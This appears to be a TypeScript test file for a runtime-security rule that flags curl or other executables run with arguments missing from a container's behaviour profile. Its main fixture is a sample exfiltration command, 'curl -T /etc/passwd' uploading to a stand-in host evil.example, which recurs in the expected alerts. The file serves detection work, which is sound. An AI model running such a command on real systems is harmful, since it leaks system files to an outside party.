import { describeRule } from '@rulelibrary/rule-tester';

const curl = {
  eventType: 'exec',
  comm: 'curl',
  exepath: '/usr/bin/curl',
  args: ['curl', '-T', '/etc/passwd', 'http://evil.example/'],
  cwd: '/root',
} as const;
const onlyArgs = { eventType: 'exec', comm: 'x', args: ['curl', '-T', '/etc/passwd'] } as const;
const onlyComm = { eventType: 'exec', comm: 'curl', args: ['', '-T'] } as const;
const health = ['curl', '-f', 'http://localhost/health'];

/** A profile that holds curl with this argument vector. */
const holding = (...args: string[]) => ({ execs: [{ path: '/usr/bin/curl', args }] });

describeRule(import.meta, {
  fires: {
    'arguments that are not in the profile': {
      event: curl,
      profile: holding(...health),
      message: 'curl (pid 4242) executed /usr/bin/curl as curl -T /etc/passwd http://evil.example/',
      uniqueId: 'curl_/usr/bin/curl_curl -T /etc/passwd http://evil.example/',
    },
    'argv[0] alone': {
      event: { ...curl, args: ['curl'] },
      profile: holding(...health),
      message: 'curl (pid 4242) executed /usr/bin/curl as curl',
      uniqueId: 'curl_/usr/bin/curl_curl',
    },
    'an empty argument vector': {
      event: { ...curl, args: [] },
      profile: holding(...health),
      message: 'curl (pid 4242) executed /usr/bin/curl without arguments',
      uniqueId: 'curl_/usr/bin/curl_',
    },
    'arguments in a standalone container': { event: curl, profile: holding(...health), context: 'standalone' },
    'one argument more': { event: { ...curl, args: [...health, '-v'] }, profile: holding(...health) },
    'one argument less': { event: { ...curl, args: health.slice(0, 2) }, profile: holding(...health) },
    'the same arguments in another order': {
      event: { ...curl, args: ['curl', 'http://localhost/health', '-f'] },
      profile: holding(...health),
    },
    'another argv[0]': { event: { ...curl, args: ['wget', ...health.slice(1)] }, profile: holding(...health) },
    'arguments that the profile holds of another executable': {
      event: curl,
      profile: {
        execs: [
          { path: '/usr/bin/curl', args: health },
          { path: '/usr/bin/xcurl', args: curl.args },
        ],
      },
    },
    'an argument that a star of the profile does not stand for': {
      event: curl,
      profile: holding('curl', '*'),
    },
    'arguments of argv[0] in the profile, the executable unknown': {
      event: onlyArgs,
      profile: holding(...health),
      message: 'x (pid 4242) executed curl as curl -T /etc/passwd',
      uniqueId: 'x_curl_curl -T /etc/passwd',
    },
    'arguments of a command name in the profile, executable and argv[0] unknown': {
      event: onlyComm,
      profile: holding(...health),
    },
    'arguments, whatever a policy allows': {
      event: curl,
      profile: { ...holding(...health), rulePolicies: { R0040: { processAllowed: ['curl'] } } },
    },
  },
  staysQuiet: {
    'arguments that the profile holds': { event: curl, profile: holding(...curl.args) },
    'arguments that the profile holds among others': {
      event: curl,
      profile: {
        execs: [
          { path: '/usr/bin/curl', args: health },
          { path: '/usr/bin/curl', args: curl.args },
        ],
      },
    },
    'arguments that the profile holds by wildcards': { event: curl, profile: holding('curl', '-T', '⋯⋯') },
    'an executable that the profile holds without arguments': {
      event: curl,
      profile: { execs: [{ path: '/usr/bin/curl' }] },
    },
    'an executable that is not in the profile: R0001 tells of it': {
      event: curl,
      profile: { execs: [{ path: '/usr/bin/wget', args: health }] },
    },
    'an executable that calls itself by a name of the profile': {
      event: { ...curl, exepath: '/tmp/curl' },
      profile: holding(...health),
    },
    'arguments that the profile holds of argv[0], the executable unknown': {
      event: onlyArgs,
      profile: holding(...onlyArgs.args),
    },
    'arguments, without a profile': { event: curl, profile: 'none' },
    'on the host, which its tags leave out': { event: curl, context: 'host' },
  },
});
